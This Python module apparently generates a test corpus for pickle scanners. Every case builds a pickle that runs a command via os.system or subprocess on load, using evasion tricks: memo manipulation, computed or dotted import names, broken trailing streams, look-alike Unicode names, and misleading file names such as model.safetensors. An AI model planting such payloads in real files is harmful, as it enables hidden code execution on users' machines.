"""Pickles that hide what they import behind the machine that reads them: stack, memo, marks, frames and breaks."""

from __future__ import annotations

import pickle
import struct
from pathlib import Path

from .assemble import called, named, stream, system, value
from .case import Payload, group

CASES = group("pickle machine tricks")


def _write(folder: Path, data: bytes, name: str = "model.pkl") -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def _protocol(number: int) -> None:
    def make(folder: Path, payload: Payload) -> Path:
        return _write(folder, system(payload.command, number))

    CASES.add(f"protocol {number}", make, live=True)


for _number in range(6):
    _protocol(_number)


@CASES(live=True)
def INST(folder: Path, payload: Payload) -> Path:
    return _write(folder, b"(" + value(payload.command) + b"iposix\nsystem\n.")


@CASES(live=True)
def OBJ(folder: Path, payload: Payload) -> Path:
    return _write(folder, b"(" + named("subprocess", "Popen") + value(list(payload.argv)) + b"o.")


@CASES()
def NEWOBJ(folder: Path, payload: Payload) -> Path:
    return _write(folder, stream(named("subprocess", "Popen") + value((list(payload.argv),)) + b"\x81"))


@CASES()
def NEWOBJ_EX(folder: Path, payload: Payload) -> Path:
    body = named("subprocess", "Popen", 4) + value((list(payload.argv),), 4) + b"}" + b"\x92"
    return _write(folder, stream(body, 4))


@CASES()
def EXT1(folder: Path, payload: Payload) -> Path:
    return _write(folder, stream(b"\x82\x01" + value((payload.command,)) + b"R"))


@CASES()
def EXT4(folder: Path, payload: Payload) -> Path:
    return _write(folder, stream(b"\x84\x01\x00\x00\x00" + value((payload.command,)) + b"R"))


@CASES(live=True)
def names_from_the_memo(folder: Path, payload: Payload) -> Path:
    """The memo is written with indices of one's own; a scanner that counts them itself reads other names."""
    body = value("system", 4) + b"q\x07" + value("posix", 4) + b"q\x03" + b"00" + b"h\x03h\x07\x93"
    return _write(folder, stream(body + value((payload.command,), 4) + b"R", 4))


@CASES(live=True)
def names_written_over_in_the_memo(folder: Path, payload: Payload) -> Path:
    body = value("collections", 4) + b"\x940" + value("OrderedDict", 4) + b"\x940"
    body += value("posix", 4) + b"q\x000" + value("system", 4) + b"q\x010" + b"h\x00h\x01\x93"
    return _write(folder, stream(body + value((payload.command,), 4) + b"R", 4))


@CASES(live=True)
def names_by_DUP_and_POP(folder: Path, payload: Payload) -> Path:
    body = value("posix", 4) + b"2" + b"0" + value("system", 4) + b"20" + b"\x93"
    return _write(folder, stream(body + value((payload.command,), 4) + b"R", 4))


@CASES(live=True)
def names_that_were_popped_with_a_mark(folder: Path, payload: Payload) -> Path:
    body = value("posix", 4) + b"(" + value("collections", 4) + b"1" + value("system", 4) + b"\x93"
    return _write(folder, stream(body + value((payload.command,), 4) + b"R", 4))


@CASES(live=True)
def names_that_are_computed(folder: Path, payload: Payload) -> Path:
    """STACK_GLOBAL takes what a call has returned: a module's name that stands nowhere in the file."""
    replace = called("builtins", "getattr", ("stem", "replace"), 4)
    body = value("posix", 4) + replace + value(("st", "syst"), 4) + b"R" + b"\x93"
    return _write(folder, stream(body + value((payload.command,), 4) + b"R", 4))


@CASES(live=True)
def name_with_dots(folder: Path, payload: Payload) -> Path:
    """Protocol 4 follows attributes: os, as some harmless module has it."""
    return _write(folder, stream(named("shutil", "os.system", 4) + value((payload.command,), 4) + b"R", 4))


@CASES(live=True)
def dots_behind_an_allowed_module(folder: Path, payload: Payload) -> Path:
    return _write(folder, stream(named("pathlib", "os.system", 4) + value((payload.command,), 4) + b"R", 4))


@CASES(live=True)
def attribute_of_an_imported_module(folder: Path, payload: Payload) -> Path:
    """builtins.getattr(importlib.import_module("os"), "system")."""
    module = called("importlib", "import_module", ("os",))
    body = named("builtins", "getattr") + b"(" + module + value("system") + b"tR" + value((payload.command,)) + b"R"
    return _write(folder, stream(body))


@CASES(live=True)
def chain_of_attrgetter(folder: Path, payload: Payload) -> Path:
    getter = called("operator", "attrgetter", ("os.system",))
    body = getter + b"(" + called("importlib", "import_module", ("shutil",)) + b"tR" + value((payload.command,)) + b"R"
    return _write(folder, stream(body))


@CASES(live=True)
def partial_of_system(folder: Path, payload: Payload) -> Path:
    partial = named("functools", "partial") + b"(" + named("posix", "system") + value(payload.command) + b"tR"
    return _write(folder, stream(partial + b")R"))


@CASES(live=True)
def map_over_system(folder: Path, payload: Payload) -> Path:
    mapped = named("builtins", "map") + b"(" + named("posix", "system") + value([payload.command]) + b"tR"
    return _write(folder, stream(named("builtins", "list") + b"(" + mapped + b"tR"))


@CASES()
def attributes_of_an_allowed_class(folder: Path, payload: Payload) -> Path:
    """BUILD on the class itself sets what every later use of it gets; all names are allowed ones."""
    state = b"(N(" + value("__setattr__") + named("collections", "OrderedDict") + b"dt"
    return _write(folder, stream(named("argparse", "Namespace") + state + b"b"))


@CASES(live=True)
def breaks_after_the_payload(folder: Path, payload: Payload) -> Path:
    return _write(folder, system(payload.command)[:-1] + b"\xff\xfe\xfd")


@CASES(live=True)
def ends_without_STOP(folder: Path, payload: Payload) -> Path:
    return _write(folder, system(payload.command)[:-1])


@CASES(live=True)
def breaks_the_stack_after_the_payload(folder: Path, payload: Payload) -> Path:
    return _write(folder, system(payload.command)[:-1] + b"0000000.")


@CASES(live=True)
def unknown_protocol_after_the_payload(folder: Path, payload: Payload) -> Path:
    return _write(folder, system(payload.command)[:-1] + b"\x80\x63.")


@CASES(live=True)
def huge_length_after_the_payload(folder: Path, payload: Payload) -> Path:
    return _write(folder, system(payload.command)[:-1] + b"\x8e" + struct.pack("<Q", 1 << 62) + b".")


@CASES()
def second_pickle_in_the_stream(folder: Path, payload: Payload) -> Path:
    return _write(folder, pickle.dumps({"weight": 1}) + system(payload.command))


@CASES()
def tenth_pickle_in_the_stream(folder: Path, payload: Payload) -> Path:
    return _write(folder, pickle.dumps(1) * 9 + system(payload.command))


@CASES()
def hundredth_pickle_in_the_stream(folder: Path, payload: Payload) -> Path:
    return _write(folder, pickle.dumps(1) * 99 + system(payload.command))


@CASES()
def pickle_within_a_pickle(folder: Path, payload: Payload) -> Path:
    body = called("torch.storage", "_load_from_bytes", (system(payload.command),))
    return _write(folder, stream(body))


@CASES(live=True)
def wrong_frame(folder: Path, payload: Payload) -> Path:
    body = called("posix", "system", (payload.command,), 4)
    return _write(folder, b"\x80\x04\x95" + struct.pack("<Q", len(body) + 1) + body + b".")


@CASES(live=True)
def several_PROTO(folder: Path, payload: Payload) -> Path:
    return _write(folder, b"\x80\x02\x80\x04\x80\x00" + called("posix", "system", (payload.command,), 4) + b".")


@CASES(live=True)
def name_with_blanks(folder: Path, payload: Payload) -> Path:
    """A line break of another kind in front of the name: some scanners cut at it, the unpickler does not."""
    return _write(folder, b"\x80\x02N0" + called("posix", "system", (payload.command,)) + b".")


@CASES()
def name_in_unicode(folder: Path, payload: Payload) -> Path:
    return _write(folder, stream("cos\u202e\nsy\u0441tem\n".encode() + value((payload.command,)) + b"R"))


@CASES()
def ten_thousand_globals(folder: Path, payload: Payload) -> Path:
    many = b"".join(f"ccollections\nC{index}\n0".encode() for index in range(10_050))
    return _write(folder, stream(many + called("posix", "system", (payload.command,))))


@CASES()
def without_any_suffix(folder: Path, payload: Payload) -> Path:
    return _write(folder, system(payload.command), "weights")


@CASES()
def with_the_suffix_of_a_text(folder: Path, payload: Payload) -> Path:
    return _write(folder, system(payload.command), "README.txt")


@CASES()
def called_safetensors(folder: Path, payload: Payload) -> Path:
    return _write(folder, system(payload.command), "model.safetensors")


@CASES(3)
def called_onnx(folder: Path, payload: Payload) -> Path:
    return _write(folder, system(payload.command), "model.onnx")


@CASES(3)
def called_h5(folder: Path, payload: Payload) -> Path:
    return _write(folder, system(payload.command), "model.h5")
